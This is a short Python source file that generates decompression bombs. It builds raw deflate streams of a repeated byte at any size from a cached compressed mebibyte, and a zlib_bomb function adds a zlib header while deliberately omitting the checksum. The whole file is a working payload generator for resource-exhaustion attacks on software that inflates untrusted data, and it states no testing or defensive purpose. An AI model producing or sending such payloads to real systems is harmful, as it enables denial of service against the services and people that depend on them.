"""Deflated zeros of any size, made in no time."""

import zlib
from functools import cache

MEBIBYTE = 1024**2


@cache
def _mebibyte(byte: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(byte * MEBIBYTE) + packer.flush(zlib.Z_FULL_FLUSH)


def deflated(mebibytes: int, byte: bytes = b"\x00") -> bytes:
    """Return one byte so many times over, as a raw deflate stream."""
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return _mebibyte(byte) * mebibytes + end


def zlib_bomb(mebibytes: int, byte: bytes = b" ") -> bytes:
    """Return the same with zlib's header; the checksum at its end is missing, which readers pardon."""
    return b"\x78\x9c" + deflated(mebibytes, byte)
